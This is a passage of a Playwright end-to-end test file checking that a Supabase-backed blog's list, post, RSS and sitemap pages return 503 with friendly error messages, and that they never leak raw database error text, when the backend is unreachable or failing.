          ...process.env,
          NODE_ENV: "production",
          PORT: String(port),
          HOST: "127.0.0.1",
          SITE_URL: origin,
          PLATFORM_URL: "https://platform.example",
          SUPABASE_URL: `http://127.0.0.1:${deadPort}`,
          SUPABASE_ANON_KEY: SUPABASE_ANON_KEY,
          SESSION_SECRET: "blog-e2e-session-secret-0123456789abcdef",
        },
      },
    );
    await expect
      .poll(
        async () => {
          try {
            return (await fetch(`${origin}/healthz`)).status;
          } catch {
            return 0;
          }
        },
        { timeout: 30_000 },
      )
      .toBe(200);
  });

  test.afterAll(() => {
    server?.kill();
  });

  test("the list and a post show their error states with a 503", async ({
    page,
  }) => {
    const list = await page.goto(`${origin}/blueprints`);
    expect(list?.status()).toBe(503);
    expect(list?.headers()["cache-control"]).toBe("private, no-store");
    await expect(
      page.getByRole("heading", {
        level: 1,
        name: "Blueprints & Breakthroughs",
      }),
    ).toBeVisible();
    await expect(
      page.getByRole("alert").filter({ hasText: /^Error loading posts: .+/ }),
    ).toBeVisible();
    await expect(
      page.getByRole("link", { name: "Home" }).first(),
    ).toBeVisible();

    const post = await page.goto(`${origin}/blueprints/${SEEDED_POST.id}`);
    expect(post?.status()).toBe(503);
    await expect(
      page.getByRole("heading", { name: "Error Loading Post" }),
    ).toBeVisible();

    const feed = await page.request.get(`${origin}/blueprints/rss.xml`);
    expect(feed.status()).toBe(503);
    const sitemap = await page.request.get(`${origin}/sitemap.xml`);
    expect(sitemap.status()).toBe(503);
  });
});

// Supabase answers, but with an error that carries no message: the pages
// fall back to their own words.
test.describe("when Supabase fails without a message", () => {
  let site: FailingSite;

  test.beforeAll(async () => {
    test.setTimeout(60_000);
    site = await startFailingSite(({ method, url }) =>
      method === "GET" && url.pathname === "/rest/v1/blog_posts"
        ? { code: "XX000", message: "" }
        : null,
    );
  });

  test.afterAll(async () => {
    await site?.stop();
  });

  test('a post says "Error Loading Post" / "Failed to load blog post"', async ({
    page,
  }) => {
    const post = await page.goto(`${site.url}/blueprints/${SEEDED_POST.id}`);
    expect(post?.status()).toBe(503);
    await expect(
      page.getByRole("heading", { name: "Error Loading Post" }),
    ).toBeVisible();
    await expect(
      page.getByText("Failed to load blog post", { exact: true }),
    ).toBeVisible();

    const list = await page.goto(`${site.url}/blueprints`);
    expect(list?.status()).toBe(503);
    await expect(
      page
        .getByRole("alert")
        .filter({ hasText: "Error loading posts: Unknown error" }),
    ).toBeVisible();
  });
});

// Supabase answers with the database's own words: they go to the log, and
// the visitor reads ours.
test.describe("when Supabase fails with a database message", () => {
  let site: FailingSite;
  const DATABASE_MESSAGE = 'relation "internal_blog_table" does not exist';

  test.beforeAll(async () => {
    test.setTimeout(60_000);
    site = await startFailingSite(({ method, url }) =>
      method === "GET" && url.pathname === "/rest/v1/blog_posts"
        ? { code: "42P01", message: DATABASE_MESSAGE }
        : null,
    );
  });

  test.afterAll(async () => {
    await site?.stop();
  });

  test("the list and a post never show it", async ({ page }) => {
    const list = await page.goto(`${site.url}/blueprints`);
    expect(list?.status()).toBe(503);
    await expect(
      page.getByRole("alert").filter({
        hasText:
          "Error loading posts: the blog is unavailable right now. Please try again in a moment.",
      }),
    ).toBeVisible();
    expect(await page.content()).not.toContain("internal_blog_table");

    const post = await page.goto(`${site.url}/blueprints/${SEEDED_POST.id}`);
    expect(post?.status()).toBe(503);
    await expect(
      page.getByRole("heading", { name: "Error Loading Post" }),
    ).toBeVisible();
    expect(await page.content()).not.toContain("internal_blog_table");
  });
});
